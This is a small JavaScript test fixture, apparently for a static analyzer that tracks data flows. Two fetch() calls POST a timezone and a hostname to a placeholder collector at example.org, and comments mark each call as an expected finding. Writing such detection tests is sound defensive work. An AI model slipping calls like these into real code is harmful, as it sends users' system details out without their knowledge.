// The package's own name leads through the conditions of `exports`: import here, require elsewhere.
import { fixed, zone } from "demo/facts";
import * as parts from "demo/parts/host";

console.log(fixed);
fetch("https://example.org/collect", { method: "POST", body: zone }); // $ finding[payload explicit timezone -> fetch.body] from TZ
fetch("https://example.org/collect", { method: "POST", body: parts.host() }); // $ finding[payload explicit hostname -> fetch.body] from hostname
